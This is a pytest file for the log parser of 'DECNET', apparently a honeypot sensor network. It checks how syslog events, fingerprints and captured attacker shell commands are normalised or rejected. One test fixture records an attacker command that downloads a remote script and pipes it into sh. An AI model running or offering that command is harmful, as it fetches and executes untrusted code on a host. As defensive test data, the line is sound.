"""DECNET RFC 5424 lines: every FORMATS.md event, shell command lines, SD escaping, rejections."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest

from node.event import FORMAT_RFC5424, Event, LineRejected, event_key
from node.ingest import parse_line


def _us(text: str) -> int:
    """UTC microseconds of an ISO timestamp computed independently of the parser."""
    moment = datetime.fromisoformat(text)
    return (moment - datetime(1970, 1, 1, tzinfo=UTC)) // datetime.resolution


def _parse(line: str) -> Event:
    return parse_line(line.encode())


def _rejection(line: str | bytes) -> str:
    raw = line.encode() if isinstance(line, str) else line
    with pytest.raises(LineRejected) as info:
        parse_line(raw)
    return info.value.reason


HEX32 = "92674389fa1e47a27ddd8d9b63ecd42b"
HEX62 = "2ad2ad0002ad2ad22c42d42d000000f5ad3c0cd2ef8a7e2f2b4f8e38b6f2a1"
HEX64 = "3f2c1b0a9e8d7c6b5a493827161504f3e2d1c0b9a8978675645342312f1e0d0c"

# (line, time, sensor, service, kind, src_ip, fields)
_EVENTS: list[tuple[str, str, str, str, str, str | None, dict[str, str]]] = [
    (
        '<134>1 2026-03-02T08:14:05.120334+00:00 mail-01 smtp - rcpt_to '
        '[relay@55555 src="198.51.100.23" value="<jane@victim-co.com>"]',
        "2026-03-02T08:14:05.120334+00:00", "mail-01", "smtp", "rcpt_to", "198.51.100.23",
        {"src": "198.51.100.23", "value": "<jane@victim-co.com>"},
    ),
    (
        '<132>1 2026-03-02T08:14:06.004100+00:00 mail-02 smtp - rcpt_denied '
        '[relay@55555 src="198.51.100.23" value="RCPT TO:<ops@Victim-Co.com>"]',
        "2026-03-02T08:14:06.004100+00:00", "mail-02", "smtp", "rcpt_denied", "198.51.100.23",
        {"src": "198.51.100.23", "value": "RCPT TO:<ops@Victim-Co.com>"},
    ),
    (
        '<134>1 2026-03-02T08:14:09.770001+00:00 mail-01 smtp_relay - message_accepted '
        '[relay@55555 src="198.51.100.23" mail_from="<a@b.net>" rcpt_to="<x@one.org>,<y@two.org>"'
        ' body_bytes="812" truncated="0" msg_id="7HX2"]',
        "2026-03-02T08:14:09.770001+00:00", "mail-01", "smtp_relay", "message_accepted",
        "198.51.100.23",
        {"src": "198.51.100.23", "mail_from": "<a@b.net>", "rcpt_to": "<x@one.org>,<y@two.org>",
         "body_bytes": "812", "truncated": "0", "msg_id": "7HX2"},
    ),
    (
        '<132>1 2026-03-02T09:00:00.5+00:00 web-02 auth-helper - auth_attempt '
        '[relay@55555 src_ip="192.0.2.44" username="admin" principal="admin" '
        'secret_printable="hunter2" secret_b64="aHVudGVyMg=="]',
        "2026-03-02T09:00:00.500000+00:00", "web-02", "auth-helper", "auth_attempt", "192.0.2.44",
        {"src_ip": "192.0.2.44", "username": "admin", "principal": "admin",
         "secret_printable": "hunter2", "secret_b64": "aHVudGVyMg=="},
    ),
    (
        '<134>1 2026-03-02T09:01:00+00:00 web-02 sniffer - tls_client_hello '
        '[relay@55555 src_ip="192.0.2.44" src_port="51000" dst_ip="10.1.0.12" dst_port="443" '
        'ja3="e7d705a3286e19ea42f587b344ee6865" ja4="t13d1517h2_8daaf6152771_b0da82dd1658" '
        'tls_version="TLS 1.3" sni="intranet" alpn="h2"]',
        "2026-03-02T09:01:00+00:00", "web-02", "sniffer", "tls_client_hello", "192.0.2.44",
        {"src_ip": "192.0.2.44", "src_port": "51000", "dst_ip": "10.1.0.12", "dst_port": "443",
         "ja3": "e7d705a3286e19ea42f587b344ee6865", "ja4": "t13d1517h2_8daaf6152771_b0da82dd1658",
         "tls_version": "TLS 1.3", "sni": "intranet", "alpn": "h2"},
    ),
    (
        '<134>1 2026-03-02T09:01:01+00:00 web-02 sniffer - ssh_client_banner '
        '[relay@55555 src_ip="192.0.2.44" src_port="51002" dst_ip="10.1.0.12" dst_port="22" '
        'ssh_version="SSH-2.0-Go"]',
        "2026-03-02T09:01:01+00:00", "web-02", "sniffer", "ssh_client_banner", "192.0.2.44",
        {"src_ip": "192.0.2.44", "src_port": "51002", "dst_ip": "10.1.0.12", "dst_port": "22",
         "ssh_version": "SSH-2.0-Go"},
    ),
    (
        f'<134>1 2026-03-02T09:05:00+00:00 decnet-prober prober - jarm_fingerprint '
        f'[relay@55555 target_ip="192.0.2.44" target_port="443" jarm_hash="{HEX62}"]',
        "2026-03-02T09:05:00+00:00", "decnet-prober", "prober", "jarm_fingerprint", "192.0.2.44",
        {"target_ip": "192.0.2.44", "target_port": "443", "jarm_hash": HEX62},
    ),
    (
        f'<134>1 2026-03-02T09:05:01+00:00 decnet-prober prober - hassh_fingerprint '
        f'[relay@55555 target_ip="192.0.2.44" target_port="22" hassh_server_hash="{HEX32}" '
        f'ssh_banner="SSH-2.0-OpenSSH_9.6" kex_algorithms="curve25519-sha256,ecdh-sha2-nistp256" '
        f'encryption_s2c="aes128-ctr" mac_s2c="hmac-sha2-256" compression_s2c="none"]',
        "2026-03-02T09:05:01+00:00", "decnet-prober", "prober", "hassh_fingerprint", "192.0.2.44",
        {"target_ip": "192.0.2.44", "target_port": "22", "hassh_server_hash": HEX32,
         "ssh_banner": "SSH-2.0-OpenSSH_9.6",
         "kex_algorithms": "curve25519-sha256,ecdh-sha2-nistp256",
         "encryption_s2c": "aes128-ctr", "mac_s2c": "hmac-sha2-256", "compression_s2c": "none"},
    ),
    (
        f'<134>1 2026-03-02T09:05:02+00:00 decnet-prober prober - tcpfp_fingerprint '
        f'[relay@55555 target_ip="192.0.2.44" target_port="22" tcpfp_hash="{HEX32}" '
        f'tcpfp_raw="64:64240:1:1460:7:1:1:M,S,T,N,W:0:0" ttl="64"]',
        "2026-03-02T09:05:02+00:00", "decnet-prober", "prober", "tcpfp_fingerprint", "192.0.2.44",
        {"target_ip": "192.0.2.44", "target_port": "22", "tcpfp_hash": HEX32,
         "tcpfp_raw": "64:64240:1:1460:7:1:1:M,S,T,N,W:0:0", "ttl": "64"},
    ),
    (
        f'<134>1 2026-03-02T09:05:03+00:00 decnet-prober prober - tls_certificate '
        f'[relay@55555 target_ip="192.0.2.44" target_port="8443" subject_cn="panel" '
        f'issuer="CN=panel" self_signed="true" not_before="2026-01-01T00:00:00Z" '
        f'not_after="2027-01-01T00:00:00Z" sans="panel" cert_sha256="{HEX64}"]',
        "2026-03-02T09:05:03+00:00", "decnet-prober", "prober", "tls_certificate", "192.0.2.44",
        {"target_ip": "192.0.2.44", "target_port": "8443", "subject_cn": "panel",
         "issuer": "CN=panel", "self_signed": "true", "not_before": "2026-01-01T00:00:00Z",
         "not_after": "2027-01-01T00:00:00Z", "sans": "panel", "cert_sha256": HEX64},
    ),
    (
        '<134>1 2026-03-02T09:05:04+00:00 decnet-prober prober - ipv6_link_local_leak '
        '[relay@55555 target_ip="192.0.2.44" target_port="-" ipv6_addr="fe80::211:22ff:fe33:4455" '
        'iid_kind="eui64" mac_oui="00:11:22" on_iface="eth1" vector="active_echo"]',
        "2026-03-02T09:05:04+00:00", "decnet-prober", "prober", "ipv6_link_local_leak",
        "192.0.2.44",
        {"target_ip": "192.0.2.44", "target_port": "-", "ipv6_addr": "fe80::211:22ff:fe33:4455",
         "iid_kind": "eui64", "mac_oui": "00:11:22", "on_iface": "eth1", "vector": "active_echo"},
    ),
    (
        '<134>1 2026-03-02T09:06:00.25+00:00 web-02 sniffer - tls_session '
        '[relay@55555 src_ip="192.0.2.44" src_port="51000" '
        'ja3s="e35df3e00ca4ef31d42b34bebaa2f86e"]',
        "2026-03-02T09:06:00.250000+00:00", "web-02", "sniffer", "tls_session", "192.0.2.44",
        {"src_ip": "192.0.2.44", "src_port": "51000", "ja3s": "e35df3e00ca4ef31d42b34bebaa2f86e"},
    ),
    (
        '<134>1 2026-03-02T09:06:01+00:00 web-02 sniffer - tcp_syn_fingerprint '
        '[relay@55555 src_ip="192.0.2.44" ttl="52" window="64240" options="M,S,T,N,W"]',
        "2026-03-02T09:06:01+00:00", "web-02", "sniffer", "tcp_syn_fingerprint", "192.0.2.44",
        {"src_ip": "192.0.2.44", "ttl": "52", "window": "64240", "options": "M,S,T,N,W"},
    ),
    (
        '<134>1 2026-03-02T09:06:02+00:00 web-02 sniffer - tcp_flow_timing '
        '[relay@55555 src_ip="192.0.2.44" rtt_ms="31.5" packets="12"]',
        "2026-03-02T09:06:02+00:00", "web-02", "sniffer", "tcp_flow_timing", "192.0.2.44",
        {"src_ip": "192.0.2.44", "rtt_ms": "31.5", "packets": "12"},
    ),
    (
        '<134>1 2026-03-02T09:06:03+00:00 web-02 sniffer - quic_client_hello '
        '[relay@55555 src_ip="[2001:db8::44]:443" ja4_quic="q13d0310h3_55b375c5d22e_cd85d2d88918"]',
        "2026-03-02T09:06:03+00:00", "web-02", "sniffer", "quic_client_hello", "2001:db8::44",
        {"src_ip": "[2001:db8::44]:443", "ja4_quic": "q13d0310h3_55b375c5d22e_cd85d2d88918"},
    ),
    (
        '<134>1 2026-03-02T09:06:04+00:00 web-02 http - http_request_fingerprint '
        '[relay@55555 remote_addr="192.0.2.44:40222" '
        'ja4h="ge11nn05enus_2f1a3b4c5d6e_000000000000"]',
        "2026-03-02T09:06:04+00:00", "web-02", "http", "http_request_fingerprint", "192.0.2.44",
        {"remote_addr": "192.0.2.44:40222", "ja4h": "ge11nn05enus_2f1a3b4c5d6e_000000000000"},
    ),
    (
        f'<134>1 2026-03-02T09:06:05+00:00 mail-01 smtp - message_stored '
        f'[relay@55555 src="198.51.100.23" sha256="{HEX64}" body_simhash="0f0e0d0c0b0a0908" '
        f'attachments_json="[{{\\"sha256\\":\\"{HEX64}\\"\\]}}]" urls_json="[\\"http://x.test/\\"\\]"]',
        "2026-03-02T09:06:05+00:00", "mail-01", "smtp", "message_stored", "198.51.100.23",
        {"src": "198.51.100.23", "sha256": HEX64, "body_simhash": "0f0e0d0c0b0a0908",
         "attachments_json": f'[{{"sha256":"{HEX64}"]}}]', "urls_json": '["http://x.test/"]'},
    ),
    (
        f'<134>1 2026-03-02T09:06:06+00:00 web-02 ftp - file_captured '
        f'[relay@55555 client_ip="192.0.2.44" sha256="{HEX64}" filename="x86"]',
        "2026-03-02T09:06:06+00:00", "web-02", "ftp", "file_captured", "192.0.2.44",
        {"client_ip": "192.0.2.44", "sha256": HEX64, "filename": "x86"},
    ),
    (
        '<134>1 2026-03-02T09:06:07+00:00 web-02 sessrec - session_recorded '
        '[relay@55555 sid="5f0c9a" service="ssh" src_ip="192.0.2.44" duration_s="41.2"]',
        "2026-03-02T09:06:07+00:00", "web-02", "sessrec", "session_recorded", "192.0.2.44",
        {"sid": "5f0c9a", "service": "ssh", "src_ip": "192.0.2.44", "duration_s": "41.2"},
    ),
]


@pytest.mark.parametrize(
    ("line", "when", "sensor", "service", "kind", "src_ip", "fields"),
    _EVENTS,
    ids=[e[4] for e in _EVENTS],
)
def test_every_documented_syslog_event_is_normalised(
    line: str, when: str, sensor: str, service: str, kind: str, src_ip: str | None,
    fields: dict[str, str],
) -> None:
    event = _parse(line)
    assert event.time_us == _us(when)
    assert (event.sensor, event.service, event.kind, event.src_ip) == (
        sensor, service, kind, src_ip)
    assert event.fields == fields
    assert event.source_format == FORMAT_RFC5424
    assert event.key == event_key(line.encode(), event.time_us)


def test_single_wrapped_shell_line_becomes_a_command_event() -> None:
    line = ("<14>1 2026-03-02T09:10:00.1+00:00 web-02 bash - - -  CMD uid=0 user=root "
            "src=192.0.2.44 pwd=/root cmd=cat /etc/os-release")
    event = _parse(line)
    assert event.time_us == _us("2026-03-02T09:10:00.100000+00:00")
    assert (event.sensor, event.service, event.kind, event.src_ip) == (
        "web-02", "bash", "command", "192.0.2.44")
    assert event.fields == {"uid": "0", "user": "root", "src": "192.0.2.44", "pwd": "/root",
                            "cmd": "cat /etc/os-release"}


def test_double_wrapped_shell_line_takes_host_service_and_time_from_the_inner_header() -> None:
    line = ('<14>1 2026-03-02T09:10:01.2+00:00 web-02 1 - - -  2026-03-02T09:10:01.19+00:00 '
            'web-02 bash - command [timeQuality tzKnown="1" isSynced="1" syncAccuracy="250000"] '
            "CMD uid=0 user=root src=192.0.2.44 pwd=/tmp "
            "cmd=curl -fsSL http://203.0.113.80/i.sh | sh")
    event = _parse(line)
    assert event.time_us == _us("2026-03-02T09:10:01.190000+00:00")
    assert (event.sensor, event.service, event.kind, event.src_ip) == (
        "web-02", "bash", "command", "192.0.2.44")
    assert event.fields == {"uid": "0", "user": "root", "src": "192.0.2.44",
                            "pwd": "/tmp",  # noqa: S108
                            "cmd": "curl -fsSL http://203.0.113.80/i.sh | sh"}


def test_double_wrapped_inner_host_differing_from_the_runtime_host_wins() -> None:
    line = ("<14>1 2026-03-02T09:10:01.2+00:00 docker-host 1 - - -  2026-03-02T09:10:01.19+00:00 "
            "web-07 sh - command - CMD uid=33 user=www-data src=[2001:db8::9]:4411 pwd=/ cmd=id")
    event = _parse(line)
    assert (event.sensor, event.service, event.src_ip) == ("web-07", "sh", "2001:db8::9")
    assert event.fields["cmd"] == "id"


def test_shell_command_keeps_the_rest_of_the_line_verbatim() -> None:
    rest = """ echo "a  b" 'c' cmd=x pwd=/etc  [x="y"] \\" trailing  """
    line = ("<14>1 2026-03-02T09:10:00+00:00 web-02 bash - - -  CMD uid=0 user=root "
            f"src=192.0.2.44 pwd=/root cmd={rest}")
    event = _parse(line)
    assert event.fields["cmd"] == rest
    assert event.fields["pwd"] == "/root"  # noqa: S105


def test_shell_command_with_only_cmd_is_accepted_without_an_address() -> None:
    event = _parse("<14>1 2026-03-02T09:10:00+00:00 web-02 bash - - -  CMD cmd=ls -la")
    assert event.fields == {"cmd": "ls -la"}
    assert event.src_ip is None


def test_shell_command_with_empty_cmd_keeps_an_empty_command() -> None:
    event = _parse("<14>1 2026-03-02T09:10:00+00:00 web-02 bash - - -  CMD uid=0 cmd=")
    assert event.fields["cmd"] == ""


@pytest.mark.parametrize("src", ["-", "unknown", "Unknown", ""])
def test_shell_command_with_an_absent_source_marker_has_no_address(src: str) -> None:
    event = _parse("<14>1 2026-03-02T09:10:00+00:00 web-02 bash - - -  CMD uid=0 user=root "
                   f"src={src} pwd=/root cmd=w")
    assert event.src_ip is None
    assert event.fields["cmd"] == "w"


def test_shell_command_with_a_port_on_its_source_keeps_only_the_address() -> None:
    event = _parse("<14>1 2026-03-02T09:10:00+00:00 web-02 bash - - -  CMD uid=0 "
                   "src=192.0.2.44:51022 pwd=/ cmd=w")
    assert event.src_ip == "192.0.2.44"


def test_shell_command_without_cmd_field_is_rejected() -> None:
    line = "<14>1 2026-03-02T09:10:00+00:00 web-02 bash - - -  CMD uid=0 user=root src=192.0.2.44"
    assert _rejection(line) == "bad_shell_command"


def test_shell_command_with_invalid_source_is_rejected() -> None:
    line = "<14>1 2026-03-02T09:10:00+00:00 web-02 bash - - -  CMD uid=0 src=not-an-ip cmd=w"
    assert _rejection(line) == "invalid_ip"


def test_nil_msgid_line_without_command_is_a_message_event() -> None:
    event = _parse("<13>1 2026-03-02T09:10:00+00:00 web-02 cron - - - (root) CMD-ish text")
    assert event.kind == "message"
    assert event.fields == {"msg": "(root) CMD-ish text"}
    assert event.src_ip is None


def test_message_starting_with_a_date_is_a_message_not_a_wrapped_line() -> None:
    text = "2026-03-02T09:00:00Z INFO worker started job 42"
    event = _parse(f"<14>1 2026-03-02T09:00:01Z web-02 app - - - {text}")
    assert (event.sensor, event.service, event.kind) == ("web-02", "app", "message")
    assert event.fields == {"msg": text}
    assert event.time_us == _us("2026-03-02T09:00:01+00:00")


def test_double_wrapped_line_with_an_inner_timestamp_without_offset_is_rejected() -> None:
    line = ("<14>1 2026-03-02T09:10:01.2+00:00 web-02 1 - - -  2026-03-02T09:10:01.19 "
            "web-02 bash - command - CMD uid=0 src=192.0.2.44 pwd=/ cmd=id")
    assert _rejection(line) == "bad_timestamp"


def test_nil_header_tokens_become_empty_sensor_and_service() -> None:
    event = _parse('<134>1 2026-03-02T09:10:00+00:00 - - - probe [relay@55555 ip="192.0.2.1"]')
    assert (event.sensor, event.service, event.kind, event.src_ip) == ("", "", "probe", "192.0.2.1")


def test_message_after_structured_data_is_kept_as_msg_without_the_bom() -> None:
    event = _parse('<134>1 2026-03-02T09:10:00+00:00 web-02 ssh - login '
                   '[relay@55555 src_ip="192.0.2.1"] \ufeffuser root logged in')
    assert event.fields == {"src_ip": "192.0.2.1", "msg": "user root logged in"}


def test_msg_field_in_structured_data_is_not_overwritten_by_the_message() -> None:
    event = _parse('<134>1 2026-03-02T09:10:00+00:00 web-02 ssh - login '
                   '[relay@55555 msg="from sd"] free text')
    assert event.fields["msg"] == "from sd"


def test_decnet_element_wins_over_daemon_elements_and_all_params_are_merged() -> None:
    line = ('<134>1 2026-03-02T09:10:00+00:00 web-02 ssh - login '
            '[timeQuality tzKnown="1" isSynced="1" src_ip="10.9.9.9"]'
            '[relay@55555 src_ip="192.0.2.44" user="root"]'
            '[origin ip="10.0.0.1"]')
    event = _parse(line)
    assert event.fields == {"tzKnown": "1", "isSynced": "1", "src_ip": "192.0.2.44",
                            "user": "root", "ip": "10.0.0.1"}
    assert event.src_ip == "192.0.2.44"


def test_daemon_only_structured_data_still_yields_its_params() -> None:
    event = _parse('<14>1 2026-03-02T09:10:00+00:00 h app - x [timeQuality tzKnown="1"]')
    assert event.fields == {"tzKnown": "1"}


def test_element_without_params_is_accepted() -> None:
    event = _parse('<14>1 2026-03-02T09:10:00+00:00 h app - x [empty@1][relay@55555 a="b"]')
    assert event.fields == {"a": "b"}


@pytest.mark.parametrize(("escaped", "value"), [
    (r"a\\b", "a\\b"),
    (r"say \"hi\"", 'say "hi"'),
    (r"[x\]", "[x]"),
    (r"C:\temp", r"C:\temp"),  # backslash before another character stays literal
    (r"\n", r"\n"),
    (r"\\\"", '\\"'),
    (r"\\\\", "\\\\"),
    ("]", "]"),  # an unescaped ']' is tolerated inside quotes
    ("", ""),
    ("naïve ✓ 例", "naïve ✓ 例"),
])
def test_structured_data_values_are_unescaped_per_rfc5424(escaped: str, value: str) -> None:
    event = _parse(f'<134>1 2026-03-02T09:10:00+00:00 h app - x [relay@55555 v="{escaped}"]')
    assert event.fields["v"] == value


def test_timestamp_offset_is_converted_to_utc() -> None:
    event = _parse('<134>1 2026-03-02T10:14:05.5+02:00 h app - x -')
    assert event.time_us == _us("2026-03-02T08:14:05.500000+00:00")
    event = _parse('<134>1 2026-03-01T23:30:00Z h app - x -')
    assert event.time_us == _us("2026-03-01T23:30:00+00:00")


def test_priority_boundaries() -> None:
    assert _parse("<0>1 2026-03-02T09:10:00Z h a - x -").kind == "x"
    assert _parse("<191>1 2026-03-02T09:10:00Z h a - x -").kind == "x"
    assert _rejection("<192>1 2026-03-02T09:10:00Z h a - x -") == "bad_syslog_header"


def test_same_line_gives_the_same_key_and_different_lines_give_different_keys() -> None:
    line = _EVENTS[0][0]
    assert _parse(line).key == _parse(line).key
    keys = {_parse(e[0]).key for e in _EVENTS}
    assert len(keys) == len(_EVENTS)
    other = line.replace("jane@", "john@")
    assert _parse(other).key != _parse(line).key


_GOOD = ('<134>1 2026-03-02T08:14:05.120334+00:00 mail-01 smtp - rcpt_to '
         '[relay@55555 src="198.51.100.23" value="<jane@victim-co.com>"]')


@pytest.mark.parametrize(("line", "reason"), [
    # truncated at various points
    ("<134>1", "bad_syslog_header"),
    ("<134>1 2026-03-02T08:14:05.120334+00:00 mail-01 smtp -", "bad_syslog_header"),
    ("<134>1 2026-03-02T08:14:05.120334+00:00 mail-01 smtp - rcpt_to", "bad_syslog_header"),
    (_GOOD[:-1], "bad_structured_data"),
    (_GOOD[:-10], "bad_structured_data"),
    ("<134>1 2026-03-02T08:14:05+00:00 h smtp - x [relay@55555 src=", "bad_structured_data"),
    ("<134>1 2026-03-02T08:14:05+00:00 mail-01 smtp - rcpt_to [", "bad_structured_data"),
    ("<134", "bad_syslog_header"),
    # bad escapes / quoting
    ('<134>1 2026-03-02T08:14:05+00:00 h smtp - x [relay@55555 v="abc\\"]', "bad_structured_data"),
    ('<134>1 2026-03-02T08:14:05+00:00 h smtp - x [relay@55555 v="a\\"] w="b"',
     "bad_structured_data"),
    ('<134>1 2026-03-02T08:14:05+00:00 h smtp - x [relay@55555 v="abc\\', "bad_structured_data"),
    ('<134>1 2026-03-02T08:14:05+00:00 h smtp - x [relay@55555 v=abc]', "bad_structured_data"),
    ('<134>1 2026-03-02T08:14:05+00:00 h smtp - x [relay@55555 v="a"b"]', "bad_structured_data"),
    ('<134>1 2026-03-02T08:14:05+00:00 h smtp - x [relay@55555  v="a"]', "bad_structured_data"),
    ('<134>1 2026-03-02T08:14:05+00:00 h smtp - x [relay@55555 v="a"]junk', "bad_structured_data"),
    ('<134>1 2026-03-02T08:14:05+00:00 h smtp - x [relay@55555 v="a"', "bad_structured_data"),
    ("<134>1 2026-03-02T08:14:05+00:00 h smtp - x garbage", "bad_structured_data"),
    ("<134>1 2026-03-02T08:14:05+00:00 h smtp - x -junk", "bad_structured_data"),
    # header damage
    ("<134>2 2026-03-02T08:14:05+00:00 h smtp - x -", "bad_syslog_header"),
    ("<1344>1 2026-03-02T08:14:05+00:00 h smtp - x -", "bad_syslog_header"),
    ("<999>1 2026-03-02T08:14:05+00:00 h smtp - x -", "bad_syslog_header"),
    ("<>1 2026-03-02T08:14:05+00:00 h smtp - x -", "bad_syslog_header"),
    ("<134>1  2026-03-02T08:14:05+00:00 h smtp - x -", "bad_syslog_header"),
    # timestamps
    ("<134>1 2026-03-02T08:14:05 h smtp - x -", "bad_timestamp"),
    ("<134>1 2026-03-02T08:14:05.120334 h smtp - x -", "bad_timestamp"),
    ("<134>1 2026-03-02 h smtp - x -", "bad_timestamp"),
    ("<134>1 - h smtp - x -", "bad_timestamp"),
    ("<134>1 2026-13-02T08:14:05+00:00 h smtp - x -", "bad_timestamp"),
    ("<134>1 2026-02-30T08:14:05+00:00 h smtp - x -", "bad_timestamp"),
    ("<134>1 2026-03-02T25:14:05+00:00 h smtp - x -", "bad_timestamp"),
    ("<134>1 2026-03-02T08:14:05+24:00 h smtp - x -", "bad_timestamp"),
    ("<134>1 2026-03-02T08:14:05+0000 h smtp - x -", "bad_timestamp"),
    ("<134>1 Mar  2 08:14:05 h smtp - x -", "bad_syslog_header"),
    ("<134>1 yesterday h smtp - x -", "bad_timestamp"),
    # addresses
    ('<134>1 2026-03-02T08:14:05Z h smtp - x [relay@55555 src="198.51.100.256"]', "invalid_ip"),
    ('<134>1 2026-03-02T08:14:05Z h smtp - x [relay@55555 src_ip="mail.example"]', "invalid_ip"),
    ('<134>1 2026-03-02T08:14:05Z h smtp - x [relay@55555 src="1.2.3.4:http"]', "invalid_ip"),
    # not syslog at all
    ("134>1 2026-03-02T08:14:05+00:00 h smtp - x -", "unknown_format"),
    ("Mar  2 08:14:05 host sshd[1]: Accepted password", "unknown_format"),
])
def test_bad_syslog_lines_are_rejected_with_a_reason(line: str, reason: str) -> None:
    assert _rejection(line) == reason


def test_invalid_utf8_in_a_syslog_line_is_rejected() -> None:
    raw = _GOOD.encode().replace(b"jane", b"j\xffne")
    assert _rejection(raw) == "invalid_utf8"
    assert _rejection(_GOOD.encode()[:-8] + b"\xe2\x82") == "invalid_utf8"  # cut mid-character


def test_nul_byte_in_a_syslog_line_is_rejected() -> None:
    raw = _GOOD.encode().replace(b"jane", b"ja\x00ne")
    assert _rejection(raw) == "nul_byte"
    assert _rejection(b"\x00" + _GOOD.encode()) == "nul_byte"


def test_overlong_timestamp_fraction_beyond_nine_digits_is_rejected() -> None:
    assert _rejection("<134>1 2026-03-02T08:14:05.1234567890+00:00 h a - x -") == "bad_timestamp"
